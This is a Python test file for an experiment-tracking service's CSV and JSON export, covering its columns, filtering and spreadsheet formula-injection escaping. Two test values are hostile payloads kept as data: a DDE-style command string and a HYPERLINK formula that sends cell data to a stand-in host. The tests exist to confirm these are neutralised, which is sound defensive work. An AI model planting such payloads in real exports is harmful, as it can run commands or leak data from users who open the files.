"""The list of experiments as a file: what is in it, and what no spreadsheet may run."""

import csv
import io
import re
from pathlib import Path

import orjson
import pytest
from tests.docs.markdown import block
from tests.e2e.site import open_site, store_trials
from tests.integration.service import Api, Json, serving, settings

from sloscore.api.page.files import text_cell


async def rows_of(api: Api, query: str = "") -> list[dict[str, str]]:
    answer = await api.get(f"/experiments.csv{query}")
    assert (answer.status, answer.type) == (200, "text/csv")
    assert answer.headers["Content-Disposition"].endswith('filename="sloscore-experiments.csv"')
    return list(csv.DictReader(io.StringIO(answer.text), strict=True))


async def test_a_row_has_the_figures_of_its_report(tmp_path: Path) -> None:
    batch = {"throughput": {"threshold": 5.0}}
    async with open_site(tmp_path) as site:
        hard = await site.run("hard", [1.8])
        other = await site.run("other", [0.3], task="batch", slo=batch)
        await site.begin("runs", [0.3])
        rows = {row["id"]: row for row in await rows_of(site.api)}
        documents = {
            document["experiment"]["id"]: document
            for document in (await site.api.get("/experiments.json")).json
        }
        shown = await site.api.show("hard")
    assert rows.keys() == documents.keys() == {"hard", "other", "runs"}
    assert documents["hard"] == {"experiment": shown, "report": hard}
    row = rows["hard"]
    assert (row["task"], row["state"], row["slo_violation"]) == ("chat", "failed", "true")
    assert (row["score"], float(row["finite_score"])) == ("Infinity", hard["finite_score"])
    assert float(row["penalty"]) == hard["penalty"]
    assert float(row["requests"]) == 100
    assert (row["start"], row["end"]) == (shown["start"], shown["end"])
    for sli in hard["slis"]:
        assert float(row[sli["sli"]]) == sli["value"]
        assert float(row[f"{sli['sli']}_upper"]) == sli["upper"]
        assert row[f"{sli['sli']}_verdict"] == sli["verdict"]
    assert row["throughput"] == row["throughput_verdict"] == ""
    assert float(rows["other"]["throughput"]) == other["slis"][0]["value"]
    assert rows["other"]["latency_p50"] == ""
    assert rows["runs"]["state"] == "running"


async def test_a_file_holds_what_is_selected_beyond_the_page(tmp_path: Path) -> None:
    await store_trials(tmp_path, 230)
    await store_trials(tmp_path, 3, "other")
    async with serving(settings(tmp_path, prometheus={"enabled": False})) as api:
        rows = await rows_of(api, "?task=sweep&sort=score")
        documents = (await api.get("/experiments.json?task=sweep&sort=score")).json
        nothing = await rows_of(api, "?task=nothing")
        empty = (await api.get("/experiments.json?task=nothing")).text
    expected = [f"sweep-{number:03}" for number in range(229, -1, -1)]
    assert [row["id"] for row in rows] == expected
    assert [document["experiment"]["id"] for document in documents] == expected
    assert (nothing, orjson.loads(empty)) == ([], [])


async def test_the_request_of_the_document_is_answered(tmp_path: Path) -> None:
    (url,) = re.findall(r"'http://127.0.0.1:8520([^']+)'", block("docs/page.md", "save"))
    await store_trials(tmp_path, 2, "chat")
    async with serving(settings(tmp_path, prometheus={"enabled": False})) as api:
        answer = await api.get(url)
    assert (answer.status, answer.type) == (200, "text/csv")
    assert [line.split(",")[1] for line in answer.text.splitlines()] == [
        "id",
        "chat-001",
        "chat-000",
    ]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("chat", "chat"),
        ("a=b", "a=b"),
    ],
)
def test_text_is_no_formula(text: str, cell: str) -> None:
    assert text_cell(text) == cell


async def test_a_name_that_is_a_formula_is_text_and_a_number_stays_one(tmp_path: Path) -> None:
    name = '=HYPERLINK("http://x.example/?"&A1,"a,b")'
    async with open_site(tmp_path) as site:
        optimization: Json = {"optimization": {"objective": "maximize_throughput"}}
        await site.run("one", [1.8], task=name, **optimization)
        ((one),) = await rows_of(site.api)
        ((document),) = (await site.api.get("/experiments.json")).json
    assert one["task"] == f"'{name}"
    assert one["score"] == "-Infinity"
    assert document["experiment"]["task"] == name
